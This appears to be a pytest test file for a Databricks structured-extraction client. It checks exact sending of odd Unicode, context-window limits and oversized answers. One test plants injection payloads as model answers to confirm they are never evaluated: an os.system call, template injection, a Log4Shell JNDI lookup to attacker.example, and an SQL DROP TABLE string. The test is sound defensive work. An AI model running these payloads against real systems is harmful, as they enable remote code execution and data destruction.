"""Rows the client must survive: text of every shape, prompts over the context window,
unencodable text, and answers that carry code. Each row either goes out exactly as given or
fails alone, with an error that says why; nothing is ever evaluated."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

import dbstruct
from dbstruct import Mode
from dbstruct._request_checks import CONTEXT_WINDOWS, prompt_tokens
from dbstruct.modes import ResponseTarget, build_request
from dbstruct.testing import Emulator
from tests.corpus import UserExtract

LLAMA = "databricks-meta-llama-3-3-70b-instruct"


@pytest.fixture
def emu(dbstruct_emulator: Emulator) -> Emulator:
    """The session's emulator (dbstruct.testing.pytest_plugin), reset for each test."""
    return dbstruct_emulator


def user(text: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": text}]


def client(emu: Emulator, endpoint: str = "m", **kw: Any) -> Any:
    kw.setdefault("max_retries", 1)
    return dbstruct.from_provider(
        f"databricks/{endpoint}", base_url=emu.base_url, api_key=emu.token, **kw
    )


def extract_both(emu: Emulator, text: str, **kw: Any) -> tuple[Any, Any]:
    """The outcome of ``text`` through the sync client, then through the async one."""
    mode = kw.pop("mode", Mode.TOOLS)
    endpoint = kw.pop("endpoint", "m")
    sync = client(emu, endpoint, mode=mode, **kw).extract(UserExtract, user(text))

    async def go() -> Any:
        async with client(emu, endpoint, mode=mode, async_client=True, **kw) as aclient:
            return await aclient.extract(UserExtract, user(text))

    return sync, asyncio.run(go())


# ---------------------------------------------------------------- text of every shape

SHAPES = {
    "emoji": "Zoë 👩🏽‍💻 is 31 🎉🇳🇱",
    "arabic": "أحمد عمره 42 سنة",
    "hebrew": "דוד בן 27",
    "mixed_direction": "Ada \u202eis 36\u202c \u200fשלום\u200e",  # noqa: RUF001
    "nul": "Ada\x00 is 36",
    "controls": "Ada\x01\x07\x08\x1b[31m is\t36\r\n\x7f\x85\u2028",
    "format_strings": "Ada {0} {name} {{age}} %s %(age)d ${age} is 36",
    "json_like": '{"name": "Eve", "age": 99}\n```json\n[1, 2]\n``` "quotes" \\ backslash',
    "zero_width": "A\u200bd\u200ca\u200d is\ufeff 36",
    "astral": "𝔄𝔡𝔞 is 36 𐍈 \U0010fffd",  # noqa: RUF001
}


@pytest.mark.parametrize("mode", [Mode.TOOLS, Mode.MD_JSON], ids=lambda m: m.name)
@pytest.mark.parametrize("shape", list(SHAPES))
def test_text_of_every_shape_is_sent_exactly_sync_and_async(
    emu: Emulator, shape: str, mode: Mode
) -> None:
    text = SHAPES[shape]
    outcomes = extract_both(emu, text, mode=mode)
    for outcome in outcomes:
        assert isinstance(outcome.value, UserExtract), outcome.error
        assert outcome.attempts == 1
    sent = [body["messages"][-1] for body in emu.requests]
    assert len(sent) == 2
    assert all(m == {"role": "user", "content": text} for m in sent)


def test_a_lone_surrogate_is_a_per_row_input_error_before_sending(emu: Emulator) -> None:
    # "\ud83d" is half of a UTF-16 pair (an emoji cut in two): it has no UTF-8 encoding, so
    # the request body could not be written; today's answer would be a UnicodeEncodeError
    # out of the HTTP library, failing the whole batch.
    for outcome in extract_both(emu, "Ada is 36 \ud83d and more"):
        assert isinstance(outcome.error, dbstruct.InputError)
        assert "lone surrogate" in str(outcome.error) and "'\\ud83d'" in str(outcome.error)
        assert outcome.attempts == 0
    assert emu.stats().requests == 0
    with pytest.raises(dbstruct.InputError):
        client(emu).create(response_model=UserExtract, messages=user("\udfff"))


# ---------------------------------------------------------------- the context window


def test_a_prompt_over_a_known_endpoints_window_fails_unsent(emu: Emulator) -> None:
    window = CONTEXT_WINDOWS[LLAMA]
    text = "word " * (window * 4 // 5 + 10)  # over 128K tokens at 4 characters a token
    for outcome in extract_both(emu, text, endpoint=LLAMA):
        error = outcome.error
        assert isinstance(error, dbstruct.InputError) and outcome.attempts == 0
        assert LLAMA in str(error) and f"context window of {window} tokens" in str(error)
        assert "about " in str(error) and "estimate" in str(error)
    assert emu.stats().requests == 0
    # the same row with the check turned off reaches the endpoint, which says no (per row)
    (outcome, _) = extract_both(emu, text, endpoint=LLAMA, max_context_tokens=None)
    assert isinstance(outcome.error, dbstruct.BadRequestError) and outcome.attempts == 1
    assert "prompt token count" in str(outcome.error)


def test_unknown_endpoints_get_no_check_and_the_endpoints_400_is_per_row(emu: Emulator) -> None:
    emu.configure(context_tokens=300)
    (outcome, aoutcome) = extract_both(emu, "Ada is 36. " * 200, endpoint="my-endpoint")
    for o in (outcome, aoutcome):
        assert isinstance(o.error, dbstruct.BadRequestError) and o.attempts == 1
    assert emu.stats().status(400) == 2


def test_the_client_estimate_agrees_with_the_emulators_400(emu: Emulator) -> None:
    """Rows around the limit: the client refuses exactly the rows the emulator would."""
    limit = 400
    emu.configure(context_tokens=limit)
    checked = client(emu, max_context_tokens=limit, max_retries=0)
    unchecked = client(emu, max_context_tokens=None, max_retries=0)
    empty = build_request(Mode.TOOLS, ResponseTarget.of(UserExtract), user(""))
    edge = (limit - prompt_tokens(empty)) * 4  # characters of text that just fit
    seen = set()
    for n in range(edge - 12, edge + 12, 3):
        text = "a" * n
        mine = checked.extract(UserExtract, user(text))
        theirs = unchecked.extract(UserExtract, user(text))
        over = isinstance(theirs.error, dbstruct.BadRequestError)
        assert isinstance(mine.error, dbstruct.InputError) == over, n
        assert mine.ok == theirs.ok
        seen.add(over)
    assert seen == {True, False}  # the range straddles the limit


def test_the_estimate_counts_schemas_and_messages_like_the_emulator() -> None:
    from dbstruct.testing._request_text import prompt_tokens as emulator_tokens
    from dbstruct.testing._validate import canonical_specs

    for mode in Mode:
        if mode is Mode.PARALLEL_TOOLS:
            continue
        request = build_request(mode, ResponseTarget.of(UserExtract), user("Ada is 36 🎉"))
        assert prompt_tokens(request) == emulator_tokens(request, canonical_specs(request))
        assert prompt_tokens(request) > 4 + 3  # the schema counts, not just the text


def test_a_per_call_endpoint_uses_its_own_window(emu: Emulator) -> None:
    text = "word " * (CONTEXT_WINDOWS[LLAMA] * 4 // 5 + 10)
    outcome = client(emu, "other").extract(UserExtract, user(text), model=LLAMA)
    assert isinstance(outcome.error, dbstruct.InputError) and LLAMA in str(outcome.error)


@pytest.mark.parametrize(
    "options",
    [{"max_context_tokens": 0}, {"max_context_tokens": "big"}, {"max_answer_bytes": -1}],
)
def test_limits_are_checked_when_the_client_is_built(options: dict[str, Any]) -> None:
    with pytest.raises(dbstruct.ConfigurationError, match=next(iter(options))):
        dbstruct.from_provider("databricks/m", base_url="http://x", api_key="k", **options)


# ---------------------------------------------------------------- answers are data


class Snippets(BaseModel):
    python: str
    template: str
    log4j: str
    sql: str


def test_answers_are_parsed_never_evaluated(emu: Emulator, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    code = {
        "python": f"__import__('os').system('touch {marker}')",
        "template": "{{7*7}} {% print(1) %} ${7*7} #{7*7}",
        "log4j": "${jndi:ldap://attacker.example/a}",
        "sql": "'; DROP TABLE users; -- \" OR 1=1",
    }
    for mode in (Mode.TOOLS, Mode.JSON, Mode.MD_JSON, Mode.FUNCTIONS):
        emu.script([code])
        value = client(emu, mode=mode).create(response_model=Snippets, messages=user("x"))
        assert value == Snippets(**code)
    assert not marker.exists()


def test_oversized_answers_fail_per_row_and_are_not_retried(emu: Emulator) -> None:
    for outcome in extract_both(emu, "[[fault:oversized]] Ada is 36", max_retries=3):
        assert isinstance(outcome.error, dbstruct.OversizedOutputError)
        assert outcome.attempts == 1 and outcome.error.size > 1 << 20
        assert len(outcome.error.raw or "") <= 1024
    (outcome, _) = extract_both(emu, "[[fault:oversized]] Bo is 7", max_answer_bytes=None)
    assert isinstance(outcome.value, UserExtract) and len(outcome.value.name) > 1 << 20
